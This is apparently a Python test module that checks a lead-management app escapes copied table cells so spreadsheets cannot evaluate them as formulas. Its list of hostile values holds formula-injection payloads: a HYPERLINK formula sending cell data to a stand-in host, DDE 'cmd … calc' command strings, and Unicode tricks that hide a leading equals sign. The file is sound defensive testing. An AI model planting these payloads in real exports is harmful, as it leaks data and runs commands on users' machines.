"""D10: no cell that is copied begins what a spreadsheet would calculate.

Hostile values are copied as rows the way the list does. They are read back as a spreadsheet reads the
clipboard: rows by line ends, cells by tabs, a formula where the first thing that is seen is one of the signs
that Excel, LibreOffice or Google take for its beginning. Each cell is its value still.
"""

from __future__ import annotations

import os
import random
import re
from collections.abc import Mapping
from unittest.mock import patch

from leaddesk.ui.kit.presenting import cells
from tests.guarantees.figure import Figure

SHORT, FULL, WIDE = 5_000, 100_000, 8
FORMULA = re.compile(
    r"^[\s\u00a0\ufeff\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\0]*[=+\-@|%＝＋－＠−\t\r]"
)
EVIL = (
    *('=HYPERLINK("https://evil.example/?"&A1)', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"),
    *("-cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1", "\ufeff=1+1"),
    *(
        " =1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "−1",
        "'=1+1",
        "'\t=1",
        "%0A=1",
        "|x",
    ),
    *("\x0b=1", "\x0c=1", "\x1c=1", "\x85=1", "\u2028=1", "\0=1", "+49 431 12345", "-", "=", "@", "", "–"),
    *("Anna Meyer", "12.000 €", "24103 Kiel", "Öl, 24 kW", '"quoted"', "a'b"),
)
LINES = re.compile(r"\r\n|[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]")


def written(drawn: random.Random) -> str:
    """Return a value: one of the known tricks, or several joined."""
    value = drawn.choice(EVIL)
    while drawn.random() < 0.4:
        value = drawn.choice(("", " ", "\t", "\n", "\r", "\u200d", "\u00a0", "=")) + value
    return value + (drawn.choice(EVIL) if drawn.random() < 0.3 else "")


def wrong(values: list[str], copied: str) -> list[str]:
    """Say what a spreadsheet would do with a copied row that it must not."""
    rows = LINES.split(copied)
    found = rows[0].split("\t")
    if len(rows) != 1 or len(found) != len(values):
        return ["a cell became several"]
    said = [f"a formula: {cell[:20]!r}" for cell in found if FORMULA.match(cell)]
    for value, cell in zip(values, found, strict=True):
        whole = re.sub(r"[\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", " ", value)
        if cell not in (whole, "'" + whole):
            said.append("a value is another one")
    return said


async def guarantee(_env: Mapping[str, str], *, planted: bool = False) -> Figure:
    """Copy hostile rows; with ``planted`` only an equals sign is thought of."""
    count = FULL if os.environ.get("FULL") == "1" else SHORT
    drawn, findings = random.Random(10), list[str]()
    forgetful = patch.object(cells, "_FORMULA", frozenset("=") if planted else cells._FORMULA)
    with forgetful:
        for _ in range(count // WIDE):
            values = [written(drawn) for _ in range(WIDE)]
            findings += wrong(values, cells.row(values))
    return Figure("copied cells: {found} of {looked:,} formulas", count // WIDE * WIDE, tuple(findings[:20]))
